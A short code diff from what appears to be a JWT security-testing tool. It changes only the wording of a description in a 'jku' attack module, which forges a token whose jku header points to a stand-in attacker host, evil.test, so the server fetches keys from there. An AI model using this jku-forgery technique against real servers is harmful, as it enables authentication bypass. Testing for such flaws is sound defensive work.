@@ -6,7 +6,7 @@ const address = 'https://evil.test/jwks.json'
 export default defineAttack({
   id: 'jku',
   name: 'jku',
-  hopes: 'That the server fetches its keys where the token says they are.',
+  hopes: 'that the server fetches its keys where the token says they are.',
   scenario: 'forged-jku',
   async apply(target) {
     const token = await signedByAttacker(target, () => ({ jku: address }))
